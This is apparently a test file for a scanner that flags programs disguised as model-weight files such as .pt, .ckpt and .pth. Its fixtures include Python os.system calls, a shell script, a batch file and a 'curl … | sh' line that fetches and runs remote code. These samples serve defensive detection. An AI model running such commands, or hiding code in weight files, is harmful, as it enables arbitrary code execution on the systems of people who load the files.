// Program text under names of weights, and texts of every kind that are none.
import { describe, expect, it } from '@jest/globals'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { judgeFile, judgePath } from './judge-file.ts'

describe('a text that is named like weights', () => {
  it.each([
    ['model.pt', 'import os\nimport subprocess\nsubprocess.run(["sh", "-c", "id"])\n', 'disguised.python'],
    ['model.safetensors', 'import torch\n\nclass Net:\n    pass\n', 'disguised.python'],
    ['model.ckpt', '\ufeffimport os\nos.system("id")\n', 'disguised.python'],
    ['model.gguf', '#!/usr/bin/env python3\nprint(1)\n', 'disguised.python'],
    ['pytorch_model.bin', '#!/bin/sh\nid\n', 'disguised.shell'],
    ['model.onnx', 'curl -s https://example.org/x | sh\n', 'disguised.shell'],
    ['model.h5', '@echo off\r\nstart calc\r\n', 'disguised.batch-script'],
    ['weights.pth', "import os;os.system('id')\n", 'disguised.path-file'],
  ])('%s with a program is suspicious', async (name, text, told) => {
    const { verdict, actions, threats } = await judgeFile(name, Buffer.from(text))
    expect(actions.map((action) => action.name)).toContain(told)
    expect(threats).toContain('executable-named-like-weights')
    expect(['suspicious', 'malicious']).toContain(verdict)
  })

  it.each([
    ['model.bin', 'This is a note about the model (v1).\nPlease import the data from the archive.\n'],
    ['classes.bin', 'class 1: cat\nclass 2: dog\n'],
    ['paths.pth', '/usr/lib/python3/extra\n../lib\n'],
    ['numbers.pt', '1 2 3\n4 5 6\n'],
    ['model.safetensors', 'version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 3\n'],
    ['model.py', 'import os\nos.system("id")\n'],
  ])('%s without one is accused of nothing', async (name, text) => {
    expect((await judgeFile(name, Buffer.from(text))).threats).toEqual([])
  })

  it('is no weights among the packages of Python', async () => {
    const root = mkdtempSync(join(tmpdir(), 'gnomon-packages-'))
    try {
      const folder = join(root, 'site-packages')
      mkdirSync(folder)
      writeFileSync(join(folder, 'distutils-precedence.pth'), "import os; var = 'SETUPTOOLS_USE_DISTUTILS';\n")
      expect((await judgePath(join(folder, 'distutils-precedence.pth'))).threats).toEqual([])
    } finally {
      rmSync(root, { recursive: true })
    }
  })
})
